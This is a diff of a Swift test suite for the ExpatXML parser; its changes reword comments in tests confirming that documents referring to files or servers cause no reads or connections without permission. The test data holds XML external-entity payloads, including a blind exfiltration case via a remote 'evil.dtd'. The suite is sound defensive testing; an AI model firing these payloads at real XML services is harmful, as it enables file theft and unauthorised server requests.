@@ -4,9 +4,9 @@ import Testing
 
 @testable import ExpatXML
 
-/// Documents that ask for a file or a connection: neither is made, unless the owner of the parser permits it.
+/// Documents that refer to a file or a server. Nothing is read or connected unless the owner of the parser permits it.
 @Suite struct ExternalAccessTests {
-  /// `F` is the URL of a file, `P` its path, `N` its name, `H` the URL of a server, `S` the same without a scheme.
+  /// `F` is the URL of a file, `P` its path, `N` its name, `H` the URL of a server, and `S` that URL without a scheme.
   static let documents: [(name: String, document: String)] = [
     ("general entity, file", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F">]><a>&x;</a>"#),
     ("general entity, path", #"<!DOCTYPE a [<!ENTITY x SYSTEM "P">]><a>&x;</a>"#),
@@ -47,7 +47,7 @@ import Testing
     ),
     ("external subset, standalone", #"<?xml version="1.0" standalone="yes"?><!DOCTYPE a SYSTEM "H/x.dtd"><a/>"#),
     ("external subset with an internal one", #"<!DOCTYPE a SYSTEM "H/x.dtd" [<!ELEMENT a ANY>]><a/>"#),
-    // Blind exfiltration: the second entity would carry the first one away.
+    // Blind exfiltration: the second entity would transmit the first one.
     (
       "exfiltration by a remote DTD",
       #"<!DOCTYPE a [<!ENTITY % file SYSTEM "F"><!ENTITY % dtd SYSTEM "H/evil.dtd">%dtd;%send;]><a/>"#
@@ -75,7 +75,7 @@ import Testing
       "a local DTD redefined",
       ##"<!DOCTYPE a [<!ENTITY % local SYSTEM "F"><!ENTITY % x "<!ENTITY &#37; y SYSTEM 'H/y'>">%local;%y;]><a/>"##
     ),
-    // What names resources and is no entity.
+    // Names of resources that are not entities.
     (
       "notation and unparsed entity",
       #"<!DOCTYPE a [<!NOTATION n SYSTEM "H/n"><!ENTITY u SYSTEM "F" NDATA n><!ATTLIST a b ENTITY #IMPLIED>]><a b="u"/>"#
@@ -118,7 +118,7 @@ import Testing
     }
   }
 
-  /// Everything that is named, in a folder of its own, with a server that serves anything.
+  /// All named resources, in a folder of their own, and a server that serves anything.
   private struct Target {
     let folder: TemporaryFolder
     let watch: FileWatch
@@ -136,7 +136,7 @@ import Testing
       let names = [
         "F": "file://" + path, "P": path, "N": "secret", "H": url, "S": String(url.drop { $0 != "/" }),
       ]
-      // Single capitals between what is no letter.
+      // Finds single capitals between characters that are not letters.
       let filled = document.replacing(/\b[FPNHS]\b/) { names[String($0.output)] ?? "" }
         .replacing("localhostP", with: "localhost" + path).replacing("..P", with: ".." + path)
       return Array(filled.utf8)
@@ -169,7 +169,7 @@ import Testing
     }
   }
 
-  /// There is nothing that would permit it.
+  /// A stream parser has no setting that would permit it.
   @Test func nothingIsReadByAStreamParser() throws {
     struct Handler: XMLStreamHandler {
       var text = ""
@@ -185,7 +185,7 @@ import Testing
     }
   }
 
-  /// The name of a file beside the document would be enough.
+  /// The name of a file beside the document would suffice.
   @Test func nothingIsReadByDefaultForADocumentFromAFile() throws {
     let target = try Target()
     for (index, (name, document)) in Self.documents.enumerated() {
@@ -195,7 +195,7 @@ import Testing
     }
   }
 
-  /// The switch alone permits nothing.
+  /// The switch without a policy permits nothing.
   @Test func nothingIsReadWithoutAPolicy() throws {
     let target = try Target()
     for (name, document) in Self.documents {
@@ -205,7 +205,7 @@ import Testing
     }
   }
 
-  /// Nor does the policy, with the switch off.
+  /// The policy without the switch permits nothing.
   @Test func nothingIsReadByAPolicyAlone() throws {
     let target = try Target()
     for (name, document) in Self.documents {
@@ -216,7 +216,7 @@ import Testing
     }
   }
 
-  /// A document from memory has no origin that anything could be the same as.
+  /// A document in memory has no origin.
   @Test func nothingIsReadOfTheSameOriginAsMemory() throws {
     let target = try Target()
     for (name, document) in Self.documents {
@@ -227,7 +227,7 @@ import Testing
     }
   }
 
-  /// Files, and no connection: what is read can't be carried away.
+  /// Files are read, but no connection is made that could transmit them.
   @Test func noConnectionIsMadeWithoutNetwork() throws {
     let target = try Target()
     for (name, document) in Self.documents {
